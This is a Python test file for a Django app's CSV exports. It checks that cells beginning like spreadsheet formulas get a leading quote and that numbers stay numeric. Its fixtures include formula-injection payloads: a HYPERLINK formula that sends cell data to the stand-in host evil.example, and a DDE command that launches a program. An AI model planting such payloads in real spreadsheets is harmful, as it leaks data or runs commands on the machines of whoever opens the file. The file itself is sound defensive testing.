"""Every CSV the app writes makes a text cell that a spreadsheet would run as a formula inert (a leading quote),
and leaves the numbers it writes as numbers."""

import csv
import io
import json

import pytest
from django.core.management import call_command

from annotations.exports import csv_cell
from annotations.models import Status
from tests.factories import ClaimFactory, PaperFactory, TagFactory

# What spreadsheet programs run (OWASP's list), each as a statement or speaker could start.
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
CONTROLS = ["\tdde", "\rdde"]


def undo(cell: str) -> str:
    """The documented way back to the raw value."""
    return cell[1:] if cell.startswith("'") else cell


@pytest.mark.parametrize("value", [*FORMULAS, *CONTROLS, "'quoted"])
def test_a_cell_that_could_run_gets_a_leading_quote(value):
    assert csv_cell(value) == "'" + value
    assert undo(csv_cell(value)) == value


@pytest.mark.parametrize("value", ["plain", "a=b", "", "1+1", " =spaced", "é=", "2026-11-30"])
def test_other_text_is_left_alone(value):
    assert csv_cell(value) == value


@pytest.mark.parametrize("value", [-1, -0.5, 0, 3, None])
def test_numbers_we_write_stay_numbers(value):
    assert csv_cell(value) == value


@pytest.fixture
def formula_world(db, moderator):
    """Claims whose statement, speaker, quote and tag start like formulas; the first two speakers disagree on
    a tag."""
    paper = PaperFactory(slug="masuda-2010", text="-5 percent, said the report. =The SCO is not an alliance.")
    tag = TagFactory(slug="-not-an-alliance")
    first = ClaimFactory(
        paper=paper, at=(0, 10), statement=FORMULAS[0], speaker=FORMULAS[1], status=Status.APPROVED, tags=[tag]
    )
    second = ClaimFactory(
        paper=paper,
        at=(29, 57),
        statement=FORMULAS[3],
        speaker=FORMULAS[2],
        stance="denies",
        status=Status.APPROVED,
        tags=[tag],
    )
    # A third speaker agrees with the first (a congruence edge); a tab leads its statement.
    third = ClaimFactory(
        paper=paper, at=(11, 27), statement=CONTROLS[0], speaker="@Third", status=Status.APPROVED, tags=[tag]
    )
    return first, second, tag, third


def rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def assert_claims_csv_is_inert(text: str, claims) -> None:
    by_statement = {row["statement"]: row for row in rows(text)}
    assert set(by_statement) == {"'" + claim.statement for claim in claims}
    row = by_statement["'" + claims[0].statement]
    assert row["speaker"] == "'" + claims[0].speaker
    assert row["exact"] == "'-5 percent"  # the paper's own words too: a quote can start with "-"
    assert row["start"] == "0"
    for row in by_statement.values():
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    assert {undo(row["statement"]) for row in by_statement.values()} == {claim.statement for claim in claims}
    assert {undo(row["speaker"]) for row in by_statement.values()} == {claim.speaker for claim in claims}


def test_claims_csv_endpoint(api, moderator, formula_world):
    first, second, _, third = formula_world
    r = api.as_user(moderator).get("/api/v1/export/claims.csv")
    assert r.status_code == 200
    assert_claims_csv_is_inert(b"".join(r.streaming_content).decode(), [first, second, third])


def test_claims_csv_command(formula_world, tmp_path):
    first, second, _, third = formula_world
    path = tmp_path / "claims.csv"
    call_command("export_claims", "--format", "csv", "-o", str(path), stderr=io.StringIO())
    with open(path, encoding="utf-8", newline="") as written:
        assert_claims_csv_is_inert(written.read(), [first, second, third])


def assert_network_is_inert(kind: str, text: str, first, second, tag, third) -> None:
    edges = rows(text)
    for edge in edges:
        for column, cell in edge.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (kind, column, cell)
            if column != "balance":
                assert not cell.startswith("-"), (kind, column, cell)
    if kind == "author-tag":
        by_actor = {edge["Source"]: edge for edge in edges}
        assert set(by_actor) == {"'" + claim.speaker for claim in (first, second, third)}
        assert {edge["Target"] for edge in edges} == {"'" + tag.slug}
        # Numbers we produce stay numbers, negative ones too.
        assert by_actor["'" + second.speaker]["balance"] == "-1.0"
        assert by_actor["'" + second.speaker]["Weight"] == "1"
        return
    pairs = {frozenset({undo(edge["Source"]), undo(edge["Target"])}): edge["Weight"] for edge in edges}
    if kind == "conflict":
        assert pairs == {
            frozenset({first.speaker, second.speaker}): "1",
            frozenset({third.speaker, second.speaker}): "1",
        }
    else:
        assert pairs == {frozenset({first.speaker, third.speaker}): "1"}


@pytest.mark.parametrize("kind", ["author-tag", "congruence", "conflict"])
def test_network_csv_endpoints(api, moderator, formula_world, kind):
    r = api.as_user(moderator).get(f"/api/v1/export/network/{kind}.csv?by=speaker")
    assert r.status_code == 200
    assert_network_is_inert(kind, r.content.decode(), *formula_world)


@pytest.mark.parametrize("kind", ["author-tag", "congruence", "conflict"])
def test_network_csv_commands(formula_world, kind):
    out = io.StringIO()
    call_command("export_network", "--kind", kind, "--format", "csv", "--by", "speaker", stdout=out)
    assert_network_is_inert(kind, out.getvalue(), *formula_world)
    out = io.StringIO()
    call_command("export_claims", "--network", kind, "--format", "csv", "--by", "speaker", stdout=out)
    assert_network_is_inert(kind, out.getvalue(), *formula_world)


def test_the_json_exports_keep_the_raw_value(api, moderator, formula_world):
    first = formula_world[0]
    r = api.as_user(moderator).get("/api/v1/export/claims.json")
    document = json.loads(b"".join(r.streaming_content))
    assert {claim["statement"] for claim in document["claims"]} >= {first.statement}
